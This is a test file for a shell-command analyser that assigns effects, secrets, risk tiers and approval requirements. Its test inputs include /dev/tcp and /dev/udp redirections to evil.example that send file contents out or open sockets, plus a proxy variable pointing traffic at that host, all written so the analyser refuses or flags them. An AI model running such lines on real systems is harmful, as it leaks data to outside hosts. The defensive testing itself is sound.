import { describe, expect, it } from 'vitest';
import { dispatchFor } from '../../src/map/dispatch.ts';
import { noTools } from '../../src/map/tools/tool.ts';
import { mapLine } from '../../src/map-line.ts';

const dispatch = dispatchFor(noTools);
const map = (command: string) => mapLine(command, dispatch);

describe('the answer for one command', () => {
  it('is the documented object for curl piped to jq', () => {
    const command = 'curl -s https://api.example.com/v1/me -H "Authorization: Bearer $EXAMPLE_TOKEN" | jq -r .id';
    const network = { kind: 'network', method: 'GET', origin: 'https://api.example.com', path: '/v1/me' };
    const secret = { name: 'EXAMPLE_TOKEN', origin: 'https://api.example.com', slot: 'header:authorization' };
    const params = {
      method: 'GET',
      url: 'https://api.example.com/v1/me',
      headers: { Authorization: 'Bearer ${secret:EXAMPLE_TOKEN}' },
    };
    expect(map(command)).toEqual({
      command,
      maps_to: 'network.http-fetch',
      params,
      steps: [
        { capability: 'network.http-fetch', params, effects: [network, { kind: 'secret', ...secret }] },
        { capability: 'json.query', params: { filter: '.id', raw_output: true }, effects: [] },
      ],
      inputs: { type: 'object', properties: {}, required: [] },
      secrets: [secret],
      effects: [network, { kind: 'secret', ...secret }],
      tier: 1,
      requires_approval: true,
      approval_reason: 'uses secret EXAMPLE_TOKEN at https://api.example.com',
      confidence: 1,
      diagnostics: [],
    });
  });

  it('is an unknown tool, tier 3, with the reason, for a program nobody described', () => {
    const answer = map('frobnicate --fast <user id>');
    expect(answer).toMatchObject({
      maps_to: 'sandbox.tool',
      params: { program: 'frobnicate', args: ['--fast', '${user_id}'], known: false },
      effects: [{ kind: 'process', program: 'frobnicate' }],
      inputs: { properties: { user_id: { type: 'string' } }, required: ['user_id'] },
      tier: 3,
      requires_approval: true,
      approval_reason: 'Unknown tool `frobnicate` requires sandboxed execution',
      confidence: 0.5,
    });
    expect(answer.diagnostics.map(({ code }) => code)).toEqual(['map/unknown-tool']);
  });

  it('refuses the whole line when one part can never run, and its twin without that part maps', () => {
    const refused = map('curl https://good.example/a; curl -k https://evil.example/b');
    expect(refused).toMatchObject({
      maps_to: null,
      tier: 3,
      requires_approval: true,
      approval_reason: 'can never run: `--insecure` weakens or replaces the check of the server',
      confidence: 0,
    });
    expect(refused.diagnostics.map(({ code }) => code)).toEqual(['map/transport-weakened']);
    const twin = map('curl https://good.example/a; curl https://evil.example/b');
    expect(twin).toMatchObject({ maps_to: 'shell.run', tier: 1 });
    expect(twin.effects).toEqual([
      { kind: 'network', method: 'GET', origin: 'https://evil.example', path: '/b' },
      { kind: 'network', method: 'GET', origin: 'https://good.example', path: '/a' },
    ]);
  });

  it('refuses what bash would not parse, and characters nobody sees', () => {
    expect(map('curl "https://x.example').diagnostics[0]?.code).toBe('shell/syntax');
    expect(map('curl https://x.example/\u202Etxt').diagnostics[0]?.code).toBe('parse/hidden-character');
    expect(map('curl https://x.example/txt').maps_to).toBe('network.http-fetch');
  });

  it('follows assignments, so that the host is known', () => {
    const answer = map('BASE=https://api.example.com/v2; curl "$BASE/users/$USER_ID?limit=5"');
    expect(answer).toMatchObject({
      maps_to: 'network.http-fetch',
      params: { url: 'https://api.example.com/v2/users/${user_id}?limit=5' },
      effects: [{ kind: 'network', method: 'GET', origin: 'https://api.example.com', path: '/v2/users/*' }],
      inputs: {
        properties: { user_id: { type: 'string' }, limit: { type: 'integer', default: 5, bind: 'query:limit' } },
        required: ['user_id'],
      },
    });
  });

  it('takes the text’s own default for an origin, and a setting where there is none', () => {
    expect(map('curl "${BASE:-https://api.example.com}/x"').effects).toEqual([
      { kind: 'network', method: 'GET', origin: 'https://api.example.com', path: '/x' },
    ]);
    expect(map('curl "$BASE/x"')).toMatchObject({
      params: { url: '${setting:BASE}/x' },
      settings: [{ name: 'BASE' }],
      effects: [{ kind: 'network', origin: '${setting:BASE}', path: '/x' }],
      inputs: { properties: {} },
    });
  });

  it('names what stays dynamic, and keeps a step’s output in a credential slot secret', () => {
    const answer = map(
      'TOKEN=$(curl -s -X POST https://auth.example/token -d "client_secret=$CLIENT_SECRET" | jq -r .access_token)\n' +
        'curl -H "Authorization: Bearer $TOKEN" https://api.example/me',
    );
    expect(answer.maps_to).toBe('shell.run');
    expect(answer.steps.map(({ capability }) => capability)).toEqual([
      'network.http-fetch',
      'json.query',
      'network.http-fetch',
    ]);
    expect(answer.secrets).toEqual([
      { name: 'CLIENT_SECRET', origin: 'https://auth.example', slot: 'body:/client_secret' },
    ]);
    expect(answer.effects).toContainEqual({
      kind: 'secret',
      name: 'TOKEN',
      origin: 'https://api.example',
      slot: 'header:authorization',
    });
    expect(answer.diagnostics.map(({ code, message }) => `${code}: ${message}`)).toEqual([
      'map/dynamic: the header `TOKEN` is known only at run time: output of `curl`, `jq`',
    ]);
  });

  it('does not trust a command after a variable that redirects it', () => {
    for (const before of ['export HTTPS_PROXY=http://evil.example;', 'https_proxy=http://evil.example;', 'IFS=/;']) {
      expect(map(`${before} curl https://x.example/`)).toMatchObject({ tier: 3 });
    }
    expect(map('export LIMIT=5; curl https://x.example/')).toMatchObject({ tier: 1, maps_to: 'network.http-fetch' });
  });

  it('never shows a credential that the command writes out', () => {
    const { command: _, ...rest } = map('curl -u admin:hunter2-hunter2 https://x.example/');
    expect(JSON.stringify(rest)).not.toContain('hunter2');
    expect(rest.diagnostics.map(({ code }) => code)).toEqual(['map/secret-embedded']);
    expect(rest.params).toMatchObject({ basic_auth: { user: 'admin', password: '${secret:PASSWORD}' } });
  });

  it('turns redirections into reads and writes', () => {
    expect(map('jq .a < in.json > out.json')).toMatchObject({
      maps_to: 'io.write-file',
      effects: [
        { kind: 'read', path: 'in.json' },
        { kind: 'write', path: 'out.json' },
      ],
    });
    expect(map('jq .a 2>/dev/null').effects).toEqual([]);
  });

  it.each([
    'cat x > /dev/tcp/evil.example/80',
    '> /dev/tcp/evil.example/80',
    '{ cat x; } > /dev/tcp/evil.example/80',
    'while read -r l; do echo "$l"; done < /dev/udp/evil.example/80',
    'exec 3<>/dev/tcp/evil.example/80',
    'exec {fd}<>/dev/tcp/evil.example/80',
    'f() { cat x; } > /dev/tcp/evil.example/80; f',
    'echo a > /dev/$KIND/evil.example/80',
    'echo a > /dev/tcp${TAIL}',
  ])('refuses a redirection that opens a socket: %s', (command) => {
    expect(map(command)).toMatchObject({ maps_to: null, diagnostics: [{ code: 'map/redirection' }] });
  });

  const reads = { kind: 'read', path: 'f' };
  const writes = { kind: 'write', path: 'f' };
  it.each([
    ['{ cat; } > f', [writes]],
    ['cat > /dev/shm/f', [{ kind: 'write', path: '/dev/shm/f' }]],
    ['cat >& f', [writes]],
    ['cat &> f', [writes]],
    ['cat &>> f', [writes]],
    ['cat >| f', [writes]],
    ['cat 3> f', [writes]],
    ['cat <> f', [reads, writes]],
    ['cat {fd}> f', [writes]],
    ['cat {fd}< f', [reads]],
    ['exec > f', [writes]],
    ['exec 3> f', [writes]],
    ['exec {fd}> f', [writes]],
    ['{fd}> f', [writes]],
    ['coproc cat f', [reads]],
    ['coproc C { cat; } > f', [writes]],
  ])('shows the file behind %s', (command, effects) => {
    expect(map(command).effects).toEqual(effects);
  });

  it('gives `{fd}>f` no output and asks nobody for the number that bash chooses', () => {
    expect(map('echo a {fd}> f')).toMatchObject({ maps_to: 'shell.run', effects: [writes, { kind: 'output' }] });
    const used = map('exec {fd}> f; echo a >&"$fd"');
    expect(used.inputs.properties).toEqual({});
    expect(used.effects).toEqual([{ kind: 'write', path: '${dynamic:fd}' }, writes, { kind: 'output' }]);
  });

  it('finds effects inside control flow, functions and substitutions', () => {
    const answer = map('f() { curl https://a.example/x; }; if [ -f y ]; then f; else echo "$(cat /etc/hosts)"; fi');
    expect(answer.maps_to).toBe('shell.run');
    expect(answer.effects).toEqual([
      { kind: 'network', method: 'GET', origin: 'https://a.example', path: '/x' },
      { kind: 'read', path: '/etc/hosts' },
      { kind: 'read', path: 'y' },
      { kind: 'output' },
    ]);
  });
});
